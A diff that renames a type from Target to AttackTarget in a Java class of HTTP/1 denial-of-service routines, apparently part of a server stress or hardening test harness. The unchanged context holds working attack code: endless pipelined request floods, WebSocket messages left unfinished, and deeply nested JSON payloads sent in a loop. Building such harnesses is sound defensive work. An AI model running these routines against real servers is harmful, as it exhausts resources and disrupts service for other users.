@@ -22,25 +22,25 @@ final class Http1Attacks {
 
   private Http1Attacks() {}
 
-  static void pipelined(Target target) throws IOException {
+  static void pipelined(AttackTarget attackTarget) throws IOException {
     byte[] request = "G / HTTP/1.1\r\nhost:x\r\n\r\n".getBytes(StandardCharsets.US_ASCII);
     byte[] all = Http2Frames.repeated(request, PIPELINED);
-    try (Socket socket = target.http1()) {
+    try (Socket socket = attackTarget.http1()) {
       OutputStream out = socket.getOutputStream();
       while (true) {
         out.write(all);
-        target.sent().add(PIPELINED);
+        attackTarget.sent().add(PIPELINED);
       }
     }
   }
 
   /** A WebSocket message in fragments, without the final fragment. */
-  static void unfinishedWebSockets(Target target) throws IOException {
-    try (Socket socket = target.http1()) {
+  static void unfinishedWebSockets(AttackTarget attackTarget) throws IOException {
+    try (Socket socket = attackTarget.http1()) {
       OutputStream out = socket.getOutputStream();
       out.write(
           ("GET "
-                  + Target.CALL
+                  + AttackTarget.CALL
                   + " HTTP/1.1\r\nhost: attacked\r\nupgrade: websocket\r\nconnection: upgrade\r\n"
                   + "sec-websocket-version: 13\r\nsec-websocket-key: AAAAAAAAAAAAAAAAAAAAAA==\r\n"
                   + "sec-websocket-protocol: grpc+proto\r\n\r\n")
@@ -57,14 +57,14 @@ final class Http1Attacks {
                 .putInt(0)
                 .array();
         out.write(Http2Frames.joined(head, payload));
-        target.sent().increment();
+        attackTarget.sent().increment();
         first = false;
       }
       drain(socket.getInputStream());
     }
   }
 
-  static void nestedAny(Target target) throws IOException {
+  static void nestedAny(AttackTarget attackTarget) throws IOException {
     StringBuilder json = new StringBuilder();
     json.append("{\"value\":".repeat(LEVELS));
     json.append("{\"value\":\"").append("x".repeat(ANY_BYTES)).append("\",\"@type\":\"");
@@ -80,11 +80,11 @@ final class Http1Attacks {
                 + "\r\n\r\n")
             .getBytes(StandardCharsets.US_ASCII);
     while (true) {
-      try (Socket socket = target.http1()) {
+      try (Socket socket = attackTarget.http1()) {
         OutputStream out = socket.getOutputStream();
         out.write(head);
         out.write(body);
-        target.sent().increment();
+        attackTarget.sent().increment();
         drain(socket.getInputStream());
       }
     }
